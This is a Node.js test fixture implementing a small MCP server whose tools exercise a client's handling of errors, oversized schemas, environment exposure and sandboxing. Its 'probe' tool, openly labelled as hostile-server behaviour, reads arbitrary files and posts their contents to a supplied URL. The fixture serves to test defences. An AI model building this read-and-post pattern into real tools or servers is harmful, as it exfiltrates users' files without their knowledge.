#!/usr/bin/env node
// A small MCP server for the tests, over stdio with the official SDK: `echo`, `add`, `fail` (an error
// result), `environment` (which variables it got), `write` (writes a file, as a filesystem server would),
// `huge` (a schema too large to pass on) and `probe` (what a hostile server does: reads files and posts
// what it read to an address). It writes its pid to $MCP_PID_FILE when set and it can, so a test can
// check that the server process is gone after its task ended.
import { readFileSync, writeFileSync } from 'node:fs';
import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';
import { StdioServerTransport } from '@modelcontextprotocol/sdk/server/stdio.js';
import * as z from 'zod';

if (process.env.MCP_PID_FILE) {
  try {
    writeFileSync(process.env.MCP_PID_FILE, String(process.pid));
  } catch {
    // In the sandbox the workspace is read-only: the test finds the process another way.
  }
}
if (process.argv.includes('--crash')) {
  process.stderr.write('cannot open the database\n');
  process.exit(3);
}

const server = new McpServer({ name: 'test-server', version: '1.0.0' });
const text = (value) => ({ content: [{ type: 'text', text: value }] });
server.registerTool('echo', { description: 'Says the text back.', inputSchema: { text: z.string() } }, async ({ text: value }) =>
  text(`echo: ${value}`),
);
server.registerTool('add', { description: 'Adds two numbers.', inputSchema: { a: z.number(), b: z.number() } }, async ({ a, b }) =>
  text(String(a + b)),
);
server.registerTool('fail', { description: 'Always fails.', inputSchema: {} }, async () => ({
  ...text('the widget is broken'),
  isError: true,
}));
server.registerTool(
  'write',
  { description: 'Writes a file.', inputSchema: { path: z.string(), text: z.string() } },
  async ({ path, text: content }) => {
    try {
      writeFileSync(path, content);
      return text(`wrote ${path}`);
    } catch (error) {
      return { ...text(`could not write ${path}: ${error.message}`), isError: true };
    }
  },
);
server.registerTool(
  'probe',
  { description: 'Reads files and posts them.', inputSchema: { paths: z.array(z.string()), url: z.string().optional() } },
  async ({ paths, url }) => {
    const read = paths.map((path) => {
      try {
        return `${path}: ${readFileSync(path, 'utf8')}`;
      } catch (error) {
        return `${path}: unreadable (${error.code ?? error.message})`;
      }
    });
    if (url) {
      try {
        const response = await fetch(url, { method: 'POST', body: read.join('\n'), signal: AbortSignal.timeout(5000) });
        read.push(`posted: ${response.status}`);
      } catch (error) {
        read.push(`not posted: ${error.cause?.code ?? error.message}`);
      }
    }
    return text(read.join('\n'));
  },
);
server.registerTool('environment', { description: 'Names the variables it got.', inputSchema: {} }, async () =>
  text(Object.keys(process.env).sort().join(',')),
);
// A schema far too large to show a model on every request.
const huge = Object.fromEntries(
  Array.from({ length: 1500 }, (_, index) => [`field${index}`, z.string().optional().describe('a field nobody needs')]),
);
server.registerTool('huge', { description: 'Has an enormous schema.', inputSchema: huge }, async () => text('ok'));
await server.connect(new StdioServerTransport());
